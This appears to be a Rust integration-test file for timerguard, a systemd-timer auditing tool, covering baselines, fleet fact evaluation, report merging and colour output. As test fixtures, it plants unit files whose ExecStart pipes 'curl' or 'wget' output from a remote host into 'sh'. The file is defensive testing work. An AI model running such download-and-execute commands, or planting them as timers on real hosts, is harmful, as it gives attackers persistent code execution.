//! Gates over time and across a fleet: baselines (fail only on new findings, counted new /
//! baselined / gone; fingerprints ignore message and line), facts evaluated centrally
//! (`check --facts`), reports of many hosts merged into one summary (`merge`), and colour
//! only where asked for.

use std::process::Command;

use serde_json::Value;

use crate::common::*;

fn json_of(o: &std::process::Output) -> Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&o.stdout)))
}

/// (policy, rule, subject) of every finding, sorted.
fn keys(r: &Value) -> Vec<(String, String, String, String)> {
    let mut v: Vec<_> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or("").to_string();
            (s("host"), s("policy"), s("rule"), s("subject"))
        })
        .collect();
    v.sort();
    v
}

#[test]
fn baseline_fails_only_on_new_findings() {
    let fx = planted();
    let b = fx.path().join("baseline.json");
    let bs = b.display().to_string();
    let o = fx.cli(&["baseline", "--output", &bs]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let recorded: Value = serde_json::from_str(&std::fs::read_to_string(&b).unwrap()).unwrap();
    assert_eq!(recorded["schema"], "timerguard.baseline/v1");
    let all = json_of(&fx.cli(&["check", "--format", "json"]));
    let n = all["findings"].as_array().unwrap().len();
    assert!(n >= 3);
    assert_eq!(recorded["entries"].as_array().unwrap().len(), n, "one entry per finding");

    // Nothing new: passes, everything baselined.
    let o = fx.cli(&["check", "--baseline", &bs, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0));
    let r = json_of(&o);
    assert_eq!(r["baseline"], serde_json::json!({ "new": 0, "baselined": n, "gone": 0 }));
    assert_eq!(r["summary"]["active"], 0);
    assert_eq!(r["summary"]["baselined"], n);
    let text = String::from_utf8_lossy(&fx.cli(&["check", "--baseline", &bs]).stdout).into_owned();
    assert!(text.contains(&format!("baseline: 0 new, {n} baselined, 0 gone")), "{text}");

    // The message and line of a recorded finding change: still the same finding.
    fx.file(
        "/etc/systemd/system/beacon.service",
        "# moved\n[Service]\nExecStart=/bin/sh -c 'curl -fsS http://198.51.100.8/q | sh'\n",
    );
    // A new payload timer and a fixed finding.
    fx.file("/etc/systemd/system/sync.timer", &timer("*:0/5"))
        .file("/etc/systemd/system/sync.service", "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://x/y | sh'\n")
        .link("/etc/systemd/system/timers.target.wants/sync.timer", "../sync.timer")
        .mode("/etc/systemd/system/report.timer", 0o644);
    let o = fx.cli(&["check", "--baseline", &bs, "--format", "json"]);
    assert_eq!(o.status.code(), Some(1), "the new critical finding fails the gate");
    let r = json_of(&o);
    let active: Vec<_> = r["findings"].as_array().unwrap().iter().filter(|f| f.get("baselined").is_none()).collect();
    assert!(active.iter().all(|f| f["subject"] == "sync.timer"), "{active:#?}");
    assert_eq!(r["baseline"]["new"].as_u64().unwrap() as usize, active.len());
    assert_eq!(r["baseline"]["gone"], 1, "the world-writable report.timer was fixed");
    // SARIF marks the state of each result.
    let s: Value = serde_json::from_slice(&fx.cli(&["check", "--baseline", &bs, "--format", "sarif"]).stdout).unwrap();
    for res in s["runs"][0]["results"].as_array().unwrap() {
        let new = res["message"]["text"].as_str().unwrap().contains("sync");
        assert_eq!(res["baselineState"], if new { "new" } else { "unchanged" });
    }

    // Bad baselines are located errors.
    fx.file("/bad.json", "{\n  \"schema\": \"timerguard.baseline/v1\",\n  \"entries\": [,]\n}\n");
    let o = fx.cli(&["check", "--baseline", &fx.host_path("/bad.json").display().to_string()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("bad.json:3:"), "{}", String::from_utf8_lossy(&o.stderr));
    let o = fx.cli(&["check", "--baseline", "/nonexistent/baseline.json"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("baseline /nonexistent/baseline.json: No such file"));
    let o = fx.cli(&["baseline", "--output", "/nonexistent/dir/b.json"]);
    assert_eq!(o.status.code(), Some(2), "an unwritable output is an error, not a silent pass");
    assert!(String::from_utf8_lossy(&o.stderr).contains("--output /nonexistent/dir/b.json"));
    fx.file("/other.json", "{\"schema\": \"timerguard.check/v1\", \"entries\": []}");
    let o = fx.cli(&["check", "--baseline", &fx.host_path("/other.json").display().to_string()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("expected \"timerguard.baseline/v1\""));
}

fn clean(hostname: &str) -> Fx {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        .file("/etc/hostname", &format!("{hostname}\n"))
        .file("/etc/systemd/system/ok.timer", &timer("daily"))
        .file("/etc/systemd/system/ok.service", "[Service]\nExecStart=/usr/bin/true\n");
    fx
}

#[test]
fn fleet_facts_evaluated_centrally_and_reports_merged() {
    let web = planted();
    web.file("/etc/hostname", "web1\n");
    let db = clean("db1");
    let dir = tempfile::tempdir().unwrap();
    let mut facts = Vec::new();
    let mut reports = Vec::new();
    for (name, fx) in [("web1", &web), ("db1", &db)] {
        let f = dir.path().join(format!("{name}.facts.json"));
        let o = fx.cli(&["facts"]);
        assert!(o.status.success());
        std::fs::write(&f, &o.stdout).unwrap();
        facts.push(f.display().to_string());
        let r = dir.path().join(format!("{name}.json"));
        let o = fx.cli(&["check", "--format", "json"]);
        std::fs::write(&r, &o.stdout).unwrap();
        reports.push(r.display().to_string());
    }

    // Central evaluation of both hosts' facts: one report, findings tagged by host.
    let mut args = vec!["check", "--format", "json", "--facts"];
    args.extend(facts.iter().map(String::as_str));
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(&args).output().unwrap();
    assert_eq!(o.status.code(), Some(1), "web1's findings fail the fleet");
    let central = json_of(&o);
    let hosts: Vec<_> = central["hosts"].as_array().unwrap().iter().map(|h| h["name"].clone()).collect();
    assert_eq!(hosts, ["web1", "db1"]);
    assert_eq!(central["hosts"][0]["summary"]["result"], "fail");
    assert_eq!(central["hosts"][1]["summary"]["result"], "pass");
    // Exactly what checking web1's root directly finds, each tagged web1.
    let direct = json_of(&web.cli(&["check", "--format", "json"]));
    let mut want: Vec<_> = keys(&direct).into_iter().map(|(_, p, r, s)| ("web1".to_string(), p, r, s)).collect();
    want.sort();
    assert_eq!(keys(&central), want);

    // Merging the two hosts' own reports gives the same findings and per-host results.
    let mut args = vec!["merge", "--format", "json"];
    args.extend(reports.iter().map(String::as_str));
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(&args).output().unwrap();
    assert_eq!(o.status.code(), Some(1));
    let merged = json_of(&o);
    assert_eq!(keys(&merged), keys(&central));
    assert_eq!(merged["summary"]["active"], central["summary"]["active"]);
    assert_eq!(merged["hosts"][1]["summary"]["result"], "pass");
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).arg("merge").args(&reports).output().unwrap();
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(text.contains("HOSTS (2)") && text.contains("2 hosts;"), "{text}");
    let row = text.lines().find(|l| l.trim_start().starts_with("db1")).unwrap();
    assert!(row.contains("pass"), "{row}");

    // The same hostname twice stays two hosts.
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .args(["merge", "--format", "json", &reports[1], &reports[1]])
        .output()
        .unwrap();
    let twice = json_of(&o);
    assert_eq!(twice["hosts"][1]["name"], "db1 (db1)");

    // --host-name names a host read from its root; it cannot rename several facts files.
    let named = json_of(&db.cli(&["check", "--format", "json", "--host-name", "db1.prod"]));
    assert_eq!(named["hosts"][0]["name"], "db1.prod");
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .args(["check", "--host-name", "x", "--facts", &facts[0]])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "--host-name with --facts is a usage error");

    // A report without its host list is named by its file.
    let mut bare: Value = serde_json::from_str(&std::fs::read_to_string(&reports[0]).unwrap()).unwrap();
    bare.as_object_mut().unwrap().remove("hosts");
    let bare_path = dir.path().join("bare-web.json");
    std::fs::write(&bare_path, bare.to_string()).unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .args(["merge", "--format", "json", &bare_path.display().to_string(), &reports[1]])
        .output()
        .unwrap();
    let r = json_of(&o);
    assert_eq!(r["hosts"][0]["name"], "bare-web");
    assert!(r["findings"].as_array().unwrap().iter().all(|f| f["host"] == "bare-web"));

    // Not a report / not facts: a clear error naming the file.
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(["merge", &facts[0]]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("expected \"timerguard.check/v1\""));
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(["merge", "/nonexistent/r.json"]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("report /nonexistent/r.json: No such file"));
    // A report handed over as facts: named as the wrong document, not as a missing field.
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(["check", "--facts", &reports[0]]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(said.contains("schema is \"timerguard.check/v1\", expected \"timerguard.facts/v1\""), "{said}");
    std::fs::write(dir.path().join("untagged.json"), "{\"findings\": []}").unwrap();
    let untagged = dir.path().join("untagged.json").display().to_string();
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(["merge", &untagged]).output().unwrap();
    assert!(String::from_utf8_lossy(&o.stderr).contains("no \"schema\" tag"), "{}", String::from_utf8_lossy(&o.stderr));
    // A report that cannot be written is an error, after nothing else was lost.
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .args(["merge", "--report", "sarif=/nonexistent/dir/x.sarif", &reports[1]])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("--report /nonexistent/dir/x.sarif"));
    std::fs::write(dir.path().join("cut.json"), "{\"schema\": \"timerguard.facts/v1\",\n \"live\": tru").unwrap();
    let cut = dir.path().join("cut.json").display().to_string();
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(["check", "--facts", &cut]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("cut.json:2:"), "{}", String::from_utf8_lossy(&o.stderr));
}

#[test]
fn colour_only_when_asked_or_on_a_terminal_without_no_color() {
    let fx = planted();
    let plain = fx.cli(&["check"]);
    assert!(!plain.stdout.contains(&0x1b), "piped output has no escape codes");
    let forced = fx.cli(&["--color", "always", "check"]);
    assert!(String::from_utf8_lossy(&forced.stdout).contains("\x1b[1;31mCRITICAL (1)\x1b[0m"));
    let json = fx.cli(&["--color", "always", "check", "--format", "json"]);
    assert!(!json.stdout.contains(&0x1b), "colour is for text only");
    if !have("script") {
        skip("util-linux `script` not installed");
        return;
    }
    // On a terminal (a pty from `script`): coloured, unless NO_COLOR is set.
    let on_tty = |no_color: bool| {
        let cmd = format!("{} --root {} check", env!("CARGO_BIN_EXE_timerguard"), fx.path().display());
        let mut c = Command::new("script");
        c.args(["-qec", &cmd, "/dev/null"]).env_remove("NO_COLOR");
        if no_color {
            c.env("NO_COLOR", "1");
        }
        String::from_utf8_lossy(&c.output().unwrap().stdout).into_owned()
    };
    assert!(on_tty(false).contains("\x1b[1;31mCRITICAL"), "{}", on_tty(false));
    let t = on_tty(true);
    assert!(t.contains("CRITICAL (1)") && !has_sgr(&t), "{t}");
}

/// An ANSI colour sequence (`ESC [ digits/semicolons m`); progress lines use other codes.
fn has_sgr(s: &str) -> bool {
    s.split("\x1b[").skip(1).any(|rest| {
        let n = rest.chars().take_while(|c| c.is_ascii_digit() || *c == ';').count();
        rest[n..].starts_with('m')
    })
}

/// A progress line on a terminal's stderr, erased at the end; none when stderr is not a
/// terminal. The line waits 300 ms before it shows; `TIMERGUARD_PROGRESS_AFTER_MS=0`
/// shows it at once (once at least), so the test does not depend on this machine's speed
/// (1,500 users took longer than 300 ms once, and less since).
#[test]
fn progress_on_a_terminal_only() {
    if !have("script") {
        skip("util-linux `script` not installed");
        return;
    }
    let fx = Fx::new();
    fx.debian_layout();
    let mut passwd = String::from("root:x:0:0:root:/root:/bin/bash\n");
    for i in 0..1500 {
        passwd.push_str(&format!("u{i}:x:{}:100::/home/u{i}:/bin/bash\n", 2000 + i));
        fx.dir(&format!("/home/u{i}/.config/systemd/user"));
    }
    fx.file("/etc/passwd", &passwd);
    let piped = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .arg("--root")
        .arg(fx.path())
        .arg("list")
        .env("TIMERGUARD_PROGRESS_AFTER_MS", "0")
        .output()
        .unwrap();
    assert!(piped.status.success());
    assert!(!piped.stderr.contains(&b'\r'), "no progress into a pipe or log");
    // Only stderr on the pty: stdout goes to a file, so what `script` shows is stderr.
    let out = fx.path().join("list.txt");
    let cmd = format!("{} --root {} list > {}", env!("CARGO_BIN_EXE_timerguard"), fx.path().display(), out.display());
    let o = Command::new("script")
        .args(["-qec", &cmd, "/dev/null"])
        .env("TIMERGUARD_PROGRESS_AFTER_MS", "0")
        .output()
        .unwrap();
    let tty = String::from_utf8_lossy(&o.stdout);
    assert!(tty.contains("\r\x1b[K| reading ") && tty.contains("s\r"), "{tty:?}");
    assert!(tty.ends_with("\r\x1b[K") || tty.trim_end().ends_with("\x1b[K"), "the line is erased: {tty:?}");
    assert_eq!(std::fs::read(&out).unwrap(), piped.stdout, "the output itself is unchanged");
}
